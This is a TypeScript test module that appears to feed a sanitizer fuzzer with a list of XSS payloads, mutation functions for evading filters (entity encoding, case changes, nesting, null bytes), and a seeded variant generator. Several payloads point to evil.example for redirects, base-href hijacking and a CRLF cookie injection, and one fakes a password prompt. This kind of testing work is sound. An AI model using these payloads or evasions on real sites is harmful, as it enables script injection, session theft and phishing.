import { readFileSync } from "node:fs";
import { join } from "node:path";
import { Chance } from "../fuzz/seeded.ts";

/** Each calls `hit()` in a browser that runs it, or moves what is around it. Our own; others' sets stay outside. */
export const PAYLOADS: readonly string[] = [
  "<script>hit()</script>",
  "<img src=x onerror=hit()>",
  "<svg onload=hit()>",
  "<svg><script>hit()</script></svg>",
  "<svg><style><img src=x onerror=hit()></style></svg>",
  "<svg><animate onbegin=hit() attributeName=x dur=1s>",
  "<svg><use href='data:image/svg+xml,<svg id=x onload=hit()>#x'></svg>",
  "<math><mtext><table><mglyph><style><img src=x onerror=hit()>",
  "<math><annotation-xml encoding='text/html'><img src=x onerror=hit()></annotation-xml></math>",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=hit()>",
  "<noscript><p title='</noscript><img src=x onerror=hit()>'></noscript>",
  "<p title='</textarea><img src=x onerror=hit()>'>x</p><textarea>",
  "<style><img title='</style><img src=x onerror=hit()>'></style>",
  "<xmp><p title='</xmp><img src=x onerror=hit()>'>",
  "<title><a title='</title><img src=x onerror=hit()>'>",
  "<a href='javascript:hit()'>click</a>",
  "<a href='java&#10;script:hit()'>click</a>",
  "<a href=' &#1;javascript:hit()'>click</a>",
  "<a href='javascript&colon;hit()'>click</a>",
  "<a href='data:text/html,<script>parent.hit()</script>'>click</a>",
  "<a href='vbscript:hit()'>click</a>",
  "<a href='//evil.example/%0d%0aSet-Cookie:a=b'>click</a>",
  "<iframe src='javascript:parent.hit()'></iframe>",
  "<iframe srcdoc='<script>parent.hit()</script>'></iframe>",
  "<object data='javascript:hit()'></object><embed src='javascript:hit()'>",
  "<form action='javascript:hit()'><button>click</button></form>",
  "<button formaction='javascript:hit()' onclick=hit()>click</button>",
  "<details open ontoggle=hit()>x</details>",
  "<video autoplay><source onerror=hit() src=x></video><audio src=x onerror=hit()>",
  "<input autofocus onfocus=hit()>",
  "<base href='https://evil.example/'><a href=x>click</a>",
  "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
  "<link rel=stylesheet href='https://evil.example/x.css' onload=hit()>",
  "<style>*{display:none!important}</style>",
  "<style>@import 'https://evil.example/x.css';</style>",
  "<p style='position:fixed;inset:0;z-index:9999;background:url(https://evil.example/a.png)'>over all</p>",
  "<p style='animation: x' onanimationstart=hit()>x</p><style>@keyframes x{}</style>",
  "<p class='notice-line skip-link' id=main>a class and an id of ours</p>",
  "<p data-island=player data-island-state=asleep data-modules='data:text/javascript,hit()' data-wake=idle data-props='{}'>x</p>",
  "<!--><img src=x onerror=hit()>-->",
  "<!-- --!><img src=x onerror=hit()> -->",
  "<![CDATA[<img src=x onerror=hit()>]]>",
  "]]><script>hit()</script>",
  "</script><script>hit()</script>",
  '"><script>hit()</script>',
  "'-hit()-'",
  '\\"};hit();//',
  "\u2028hit()//",
  "<<script>hit()//<</script>",
  "<img src='x' alt='`><img src=x onerror=hit()>`'>",
  "<template><img src=x onerror=hit()></template>",
  "<template shadowrootmode=open><script>hit()</script></template>",
  "<p/onclick=hit()/id=x>click",
  "<a\u000chref='javascript:hit()'>click</a>",
  "&lt;img src=x onerror=hit()&gt;",
  "&amp;lt;img src=x onerror=hit()&amp;gt;",
  "＜script＞hit()＜/script＞",
  "<scr\u0000ipt>hit()</script>",
  "<img/src='x'/onerror='hit()'",
  "</main></body></html><script>hit()</script>",
  "<table><td><script>hit()</script><table><caption><svg onload=hit()>",
  "<dialog open style=position:fixed><h1>Sign in</h1><input name=password></dialog>",
  "<div popover id=p>x</div><button popovertarget=p>click</button>",
];

const entities = (text: string): string =>
  text.replace(/[a-z]/g, (letter) => `&#x${letter.codePointAt(0)?.toString(16)};`);

/** What an attacker does to a payload that was refused: other spellings, other nesting, broken letters. */
const MUTATIONS: readonly ((payload: string, chance: Chance) => string)[] = [
  (payload) => payload,
  (payload) => payload.replace(/[a-z]/g, (letter, at: number) => (at % 2 ? letter.toUpperCase() : letter)),
  (payload) => payload.replace(/\b(hit|javascript|onerror|script)\b/g, entities),
  (payload) => payload.replace(/[<>"'&]/g, (mark) => `&#${mark.codePointAt(0)};`),
  (payload) => payload.replace(/\s/g, "\t\n"),
  (payload) => payload.replace(/ (?=on)/g, "/"),
  (payload) => payload.replace(/=/g, "\u00a0=\u0000"),
  (payload) => payload.replaceAll("<", "<\u0000"),
  (payload) => payload.replaceAll("script", "scr<b>ipt"),
  (payload) => payload.replaceAll("script", "ſcript").replaceAll("i", "ı"),
  (payload) => `<svg><desc>${payload}</desc></svg>`,
  (payload) => `<math><mtext>${payload}</mtext></math>`,
  (payload) => `<table><tr>${payload}</tr></table>`,
  (payload) => `<select><option>${payload}</select>`,
  (payload) => `<p title="${payload}">${payload}</p>`,
  (payload) =>
    `<a href="https://x.example/?${payload}"><img alt='${payload}' src="https://x.example/a.png">${payload}</a>`,
  (payload) => `<b>${"<i>".repeat(300)}${payload}`,
  (payload) => `${payload}\ud800${payload}`,
  (payload) => `${payload}<!--`,
  (payload, chance) => chance.damaged(payload),
  (payload, chance) => chance.damaged(chance.damaged(payload)),
];

/** Every payload as it is and in other spellings, `times` in all, so that few spellings try every mutation on some; the same for the same seed. */
export function variants(payloads: readonly string[], times: number, seed = 1): string[] {
  return payloads.flatMap((payload, n) =>
    Array.from({ length: times }, (_, at) => {
      const chance = new Chance(seed + n * 1000 + at);
      const mutate = MUTATIONS[at === 0 ? 0 : 1 + ((n + (at - 1) * 7) % (MUTATIONS.length - 1))];
      return (mutate ?? MUTATIONS[0])?.(payload, chance) ?? payload;
    }),
  );
}

/** Payloads of a folder outside the project: `payloads.json`, a list of `{ payload }`. */
export function payloadsIn(folder: string): string[] {
  const rows = JSON.parse(readFileSync(join(folder, "payloads.json"), "utf8")) as { payload: string }[];
  return rows.map(({ payload }) => payload);
}
